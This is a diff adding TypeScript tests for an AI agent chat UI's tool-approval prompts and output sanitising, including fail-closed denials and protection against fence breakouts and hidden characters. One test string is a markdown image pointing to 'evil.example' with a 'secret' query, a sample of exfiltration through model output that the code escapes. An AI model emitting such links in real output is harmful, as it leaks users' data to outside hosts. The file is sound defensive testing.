@@ -1,0 +1,140 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { describeApproval } from '../../src/approvals';
+import { ChatSession } from '../../src/chatSession';
+import {
+  ANSWER_COMMAND, NativeApprovals, NativeChatUi, STOP_COMMAND, approvalMarkdown, fenced, openFence, type NativeStream,
+} from '../../src/nativeChatUi';
+import type { StreamEvent, ToolConfirmParams } from '../../src/protocol';
+import { FakeToken, FakeTransport, tick } from './fakes';
+
+class FakeStream implements NativeStream {
+  parts: Array<[string, ...unknown[]]> = [];
+  markdown(text: string): void {
+    const last = this.parts[this.parts.length - 1];
+    if (last?.[0] === 'markdown') last[1] = String(last[1]) + text;
+    else this.parts.push(['markdown', text]);
+  }
+  progress(text: string): void {
+    this.parts.push(['progress', text]);
+  }
+  button(title: string, command: string, args: unknown[]): void {
+    this.parts.push(['button', title, command, args]);
+  }
+  get text(): string {
+    return this.parts.filter((p) => p[0] === 'markdown').map((p) => p[1]).join('');
+  }
+}
+
+const params = (extra: Partial<ToolConfirmParams> = {}): ToolConfirmParams => ({
+  sessionId: 's_1', turnId: 's_1:1', toolCallId: 'c1', approvalId: 'A1', name: 'terminal',
+  arguments: { command: 'touch allowed.txt' }, reason: 'code_execution', sandbox: { level: 'standard', network: false }, ...extra,
+});
+const ev = (e: Record<string, unknown>): StreamEvent => ({ sessionId: 's_1', turnId: 's_1:1', ...e }) as unknown as StreamEvent;
+
+test('@gatehouse streams the answer as markdown, tool calls as progress and then their output', async () => {
+  const stream = new FakeStream();
+  const transport = new FakeTransport();
+  const session = new ChatSession(transport, new NativeChatUi(stream));
+  const done = session.send('make a file');
+  session.handleEvent(ev({ type: 'content', text: 'I will **create** ' }));
+  session.handleEvent(ev({ type: 'content', text: 'the file.\n' }));
+  session.handleEvent(ev({ type: 'tool_start', toolCallId: 'c1', name: 'terminal', arguments: { command: 'ls' }, awaitingConfirmation: false }));
+  session.handleEvent(ev({ type: 'tool_output', toolCallId: 'c1', text: 'a.py\n' }));
+  session.handleEvent(ev({ type: 'tool_end', toolCallId: 'c1', name: 'terminal', status: 'completed', exitCode: 0, result: 'a.py\n', sandbox: { level: 'strong', network: false } }));
+  session.handleEvent(ev({ type: 'content', text: 'Done.' }));
+  transport.last.resolve({ sessionId: 's_1', turnId: 's_1:1', stopReason: 'end_turn', text: '', toolCalls: [] });
+  await done;
+  const kinds = stream.parts.map((p) => (p[0] === 'progress' ? `progress:${String(p[1])}` : p[0]));
+  assert.deepEqual(kinds, ['markdown', 'progress:Running terminal…', 'markdown']);
+  assert.match(stream.text, /^I will \*\*create\*\* the file\.\n/);
+  assert.match(stream.text, /\*\*terminal\*\* · completed · exit code 0 · ran under strong · network off/);
+  assert.match(stream.text, /Output:\n\n```\na\.py\n```/);
+  assert.ok(stream.text.endsWith('Done.'), 'text after the tool comes after it');
+});
+
+test('the approval in the Chat view shows everything the card shows, Deny first, then Stop', () => {
+  const stream = new FakeStream();
+  const ui = new NativeChatUi(stream);
+  const view = describeApproval(params({ arguments: { command: 'echo "```" \u202E' } }), '/ws/my_project');
+  ui.showApproval(view, ['s_1']);
+  const text = stream.text;
+  assert.match(text, /allow `terminal` to run\?/);
+  assert.match(text, /Command \(1 line, shown in full\)/);
+  assert.match(text, /````sh\necho "```" <U\+202E>\n````/, 'the full command, in a fence it cannot close');
+  assert.match(text, /hidden or control characters/);
+  assert.match(text, /Working folder:\*\* \/ws\/my\\_project/);
+  assert.match(text, /Why you are asked:\*\* It runs code/);
+  assert.match(text, /Isolation:\*\* standard · network off — \*\*below strong isolation/);
+  const buttons = stream.parts.filter((p) => p[0] === 'button');
+  assert.deepEqual(buttons.map((b) => b[1]), ['Deny', 'Deny with a message…', 'Allow once', 'Allow for this session', 'Stop']);
+  assert.deepEqual(buttons[0]?.slice(2), [ANSWER_COMMAND, ['A1', 'deny']]);
+  assert.deepEqual(buttons[2]?.slice(2), [ANSWER_COMMAND, ['A1', 'allow']]);
+  assert.deepEqual(buttons[4]?.slice(2), [STOP_COMMAND, ['s_1']]);
+});
+
+test('Chat view approvals: Allow runs, Deny (with its message) does not, anything else is a denial', async () => {
+  const approvals = new NativeApprovals();
+  const ui = new NativeChatUi(new FakeStream());
+  const view = describeApproval(params(), '/ws');
+  const allow = approvals.ask(view, ui, new FakeToken(), []);
+  assert.equal(approvals.answer('A1', 'allow'), true);
+  assert.deepEqual(await allow, { decision: 'allow' });
+  assert.equal(approvals.answer('A1', 'allow'), false, 'an answered approval cannot be answered again');
+  const deny = approvals.ask({ ...view, approvalId: 'A2' }, ui, new FakeToken(), []);
+  approvals.answer('A2', 'deny', ' use git clean ');
+  assert.deepEqual(await deny, { decision: 'deny', message: 'use git clean' });
+  const odd = approvals.ask({ ...view, approvalId: 'A3' }, ui, new FakeToken(), []);
+  approvals.answer('A3', 'allow_everything_forever');
+  assert.deepEqual(await odd, { decision: 'deny' });
+  assert.equal(approvals.answer('nope', 'allow'), false);
+  assert.equal(approvals.answer(42, 'allow'), false);
+});
+
+test('Chat view approvals fail closed: no live response, or a response that cannot show it, is a denial', async () => {
+  const approvals = new NativeApprovals();
+  const view = describeApproval(params(), '/ws');
+  assert.deepEqual(await approvals.ask(view, undefined, new FakeToken(), []), { decision: 'deny' });
+  const broken = new NativeChatUi(new FakeStream());
+  broken.showApproval = () => {
+    throw new Error('response closed');
+  };
+  assert.deepEqual(await approvals.ask(view, broken, new FakeToken(), []), { decision: 'deny' });
+  assert.equal(approvals.size, 0);
+});
+
+test('Stop (the server withdraws the approval): nothing is decided and the response says so', async () => {
+  const approvals = new NativeApprovals();
+  const stream = new FakeStream();
+  const token = new FakeToken();
+  const closed: string[] = [];
+  const pending = approvals.ask(describeApproval(params(), '/ws'), new NativeChatUi(stream), token, [], (o) => closed.push(o));
+  token.cancel();
+  assert.equal(await pending, undefined);
+  assert.deepEqual(closed, ['withdrawn']);
+  assert.match(stream.text, /_Approval withdrawn\._/);
+  assert.equal(approvals.answer('A1', 'allow'), false, 'a withdrawn approval cannot be allowed afterwards');
+  await tick();
+});
+
+test('model text cannot load images in the Chat view, even split across deltas', () => {
+  const stream = new FakeStream();
+  const ui = new NativeChatUi(stream);
+  ui.appendContent('see !');
+  ui.appendContent('[x](https://evil.example/?q=secret) and ![y](https://e/)');
+  ui.endTurn('');
+  assert.equal(stream.text, 'see !\\[x](https://evil.example/?q=secret) and !\\[y](https://e/)');
+});
+
+test('a code block the model leaves open is closed before Gatehouse writes its own text', () => {
+  const stream = new FakeStream();
+  const ui = new NativeChatUi(stream);
+  ui.appendContent('```python\nprint(1)\n');
+  ui.startTool({ id: 'c1', name: 'python', args: 'print(1)', awaitingConfirmation: true });
+  ui.showApproval(describeApproval(params({ name: 'python', arguments: { code: 'print(1)' } }), '/ws'), []);
+  assert.match(stream.text, /^```python\nprint\(1\)\n\n```\n\n\*\*Gatehouse: allow `python`/);
+  assert.equal(openFence('```\na\n```\n~~~\n'), '~~~');
+  assert.equal(openFence('````\n```\n'), '````');
+  assert.equal(fenced('a ``` b'), '````\na ``` b\n````\n');
+  assert.match(approvalMarkdown(describeApproval(params(), '/ws')), /Deny\*\* is the default/);
+});
